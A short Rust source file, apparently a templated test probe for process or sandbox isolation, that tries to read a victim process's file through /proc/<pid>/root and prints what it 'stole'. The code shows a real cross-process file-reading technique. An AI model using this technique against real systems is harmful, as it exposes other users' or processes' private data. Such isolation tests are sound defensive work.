//! Reads a file through the root of another process.

mod sum;

fn main() {
    sum::print_stolen(attack());
}

/// What was found, if anything.
fn attack() -> Option<String> {
    std::fs::read_to_string("/proc/@VICTIM_PID@/root@OPEN@/note.txt").ok()
}
